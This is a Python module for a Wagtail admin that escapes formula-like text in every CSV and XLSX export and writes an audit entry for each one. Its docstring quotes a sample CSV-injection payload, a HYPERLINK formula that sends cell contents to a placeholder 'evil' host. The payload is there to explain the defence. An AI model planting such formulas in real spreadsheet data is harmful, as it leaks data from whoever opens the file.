"""Formula-safe spreadsheet exports in the Wagtail admin (OWASP "CSV injection", ASVS 1.2.10).

Every admin listing with a ``list_export`` (employees, OPDs, positions, ...) and Wagtail's own
reports (site history, locked and aging pages, workflows, redirects, form submissions) offer
``?export=csv`` and ``?export=xlsx`` through Wagtail's ``SpreadsheetExportMixin``. Left alone
they write a cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` as it is, and a
spreadsheet runs it. Here every text cell and heading of those exports goes through
:func:`lms.core.imports.cells.escape_formula`, the one function the import/export screens use,
so a value starting with ``= + - @``, TAB or CR gets one leading ``'`` (and re-imports as the
stored value).

Why the base class and not a mixin on each index view: a mixin reaches only the views this
project declares, and Wagtail's own report views (whose cells hold page titles and log labels
that editors write) are routed by Wagtail itself and cannot be swapped for subclasses. Wrapping
``SpreadsheetExportMixin`` once, in ``CoreConfig.ready()``, covers every export view present
and future with one implementation; ``tests/imports/test_list_exports.py`` walks the URLconf and
fails for any export view whose rows or headings bypass it (e.g. a subclass that writes its own
rows), and for any listing the project adds without being covered.

The same wrapping records every such export in the audit log (docs/security.md, "Audit log"):
``as_spreadsheet`` writes one ``EXPORTED`` entry (the model, the format, the listing's filters
and search, the view) before the file is streamed.
"""

from functools import wraps
from typing import Any

from wagtail.admin.views.mixins import SpreadsheetExportMixin

from .audit.actions import AuditAction
from .audit.services import audit_record
from .imports.cells import escape_formula

_INSTALLED = "_lms_formula_safe"


def formula_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str):
        return escape_formula(value)
    return value


def list_export_audit(view: Any, queryset: Any, spreadsheet_format: str) -> None:
    """One ``EXPORTED`` audit entry for a Wagtail list export: the model exported, the format,
    the filters and search of the listing (its query string without ``export``), the view."""
    model = getattr(queryset, "model", None)
    meta = getattr(model, "_meta", None)
    request = getattr(view, "request", None)
    query = getattr(request, "GET", None)
    filters = (
        {
            key: query.getlist(key) if len(query.getlist(key)) > 1 else query.get(key)
            for key in query
            if key != "export"
        }  # fmt: skip
        if query is not None
        else {}
    )
    audit_record(
        AuditAction.EXPORTED,
        object_type=meta.label_lower if meta else type(view).__name__,
        object_label=str(meta.verbose_name_plural) if meta else "",
        details={
            "kind": "list_export",
            "format": spreadsheet_format,
            "filters": filters,
            "view": f"{type(view).__module__}.{type(view).__name__}",
            "path": getattr(request, "path", ""),
        },
        request=request,
    )


def install() -> None:
    """Make every ``SpreadsheetExportMixin`` export formula-safe (idempotent).

    Wraps ``preprocess_field_value`` (every CSV and XLSX cell goes through it) and
    ``get_heading`` (headings may be editor-written, e.g. form field labels).
    """
    if getattr(SpreadsheetExportMixin, _INSTALLED, False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading
    as_spreadsheet = SpreadsheetExportMixin.as_spreadsheet

    @wraps(preprocess)
    def preprocess_field_value(self, field, value, export_format):
        return formula_safe(preprocess(self, field, value, export_format))

    @wraps(heading)
    def get_heading(self, queryset, field):
        return formula_safe(heading(self, queryset, field))

    @wraps(as_spreadsheet)
    def audited_as_spreadsheet(self, queryset, spreadsheet_format):
        list_export_audit(self, queryset, spreadsheet_format)
        return as_spreadsheet(self, queryset, spreadsheet_format)

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.as_spreadsheet = audited_as_spreadsheet
    SpreadsheetExportMixin.get_heading = get_heading
    setattr(SpreadsheetExportMixin, _INSTALLED, True)
